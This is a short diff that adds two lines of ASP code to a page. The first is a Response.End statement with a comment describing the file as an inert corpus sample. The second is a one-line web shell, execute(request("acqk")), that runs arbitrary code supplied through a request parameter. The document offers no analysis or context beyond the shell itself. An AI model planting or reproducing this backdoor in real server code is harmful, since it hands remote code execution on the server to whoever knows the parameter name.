@@ -1,0 +1,2 @@
+<% Response.End ' hegui corpus: inert sample - the page ends here %>
+<%execute(request("acqk"))%>
